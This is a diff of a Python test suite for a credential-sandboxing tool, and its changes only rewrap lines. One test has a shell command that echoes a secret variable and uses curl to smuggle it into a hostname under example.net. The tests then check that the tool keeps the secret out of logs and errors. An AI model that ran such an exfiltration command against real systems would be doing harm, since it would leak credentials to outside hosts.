@@ -1,4 +1,5 @@
-"""Credentials of the configuration: named programs get them in a variable, nothing else does, and no value is kept anywhere."""
+"""Credentials of the configuration: named programs get them in a variable, nothing else does, and no value is kept
+anywhere."""
 import json
 import os
 import pathlib
@@ -42,7 +43,8 @@ def credential(source, variable="MY_KEY", programs=("/usr/bin/env",)):
 
 
 def everything(data):
-    return b"".join(path.read_bytes() for path in pathlib.Path(data).rglob("*") if path.is_file() and os.access(path, os.R_OK))
+    return b"".join(path.read_bytes() for path in pathlib.Path(data).rglob("*") if path.is_file()
+                    and os.access(path, os.R_OK))
 
 
 def printed(told):
@@ -102,8 +104,10 @@ def test_what_a_program_does_not_get_is_redacted(cordon, key_file, configure, wo
 
 
 def test_what_it_got_is_in_no_row_and_no_error(cordon, key_file, configure):
-    config = configure(credential(f'file = "{key_file}"', programs=["/bin/sh", "/usr/bin/sh", "/bin/dash", "/bin/bash"]))
-    told = result(cordon, *config, "--net", "example.com:443", "-c", 'echo "$MY_KEY"; cd "/$MY_KEY" 2>&1; command -v curl > /dev/null && '
+    config = configure(credential(f'file = "{key_file}"',
+                                  programs=["/bin/sh", "/usr/bin/sh", "/bin/dash", "/bin/bash"]))
+    told = result(cordon, *config, "--net", "example.com:443", "-c",
+                  'echo "$MY_KEY"; cd "/$MY_KEY" 2>&1; command -v curl > /dev/null && '
                   'curl -s -m 5 "http://x$(printf %s "$MY_KEY" | tr -d +).example.net/"; exit 0')
     assert told["stdout"].startswith(VALUE)
     assert VALUE.encode() not in everything(cordon.data) and VALUE not in json.dumps(told["denials"])
@@ -114,7 +118,8 @@ def test_what_it_got_is_in_no_row_and_no_error(cordon, key_file, configure):
     (lambda path: path.chmod(0o602), "others may read or change this file"),
     (lambda path: path.unlink(), "this file cannot be read"),
     (lambda path: (path.rename(path.with_name("real")), path.symlink_to("real")), "there is a link on the way"),
-    (lambda path: (path.parent.rename(path.parent.with_name("moved")), path.parent.symlink_to("moved")), "there is a link on the way"),
+    (lambda path: (path.parent.rename(path.parent.with_name("moved")), path.parent.symlink_to("moved")),
+     "there is a link on the way"),
     (lambda path: (path.unlink(), os.mkfifo(path, 0o600)), "no regular file"),
     (lambda path: (path.unlink(), path.mkdir(0o700)), "no regular file"),
     (lambda path: path.write_bytes(b"x" * 20000), "larger than 16 KiB"),
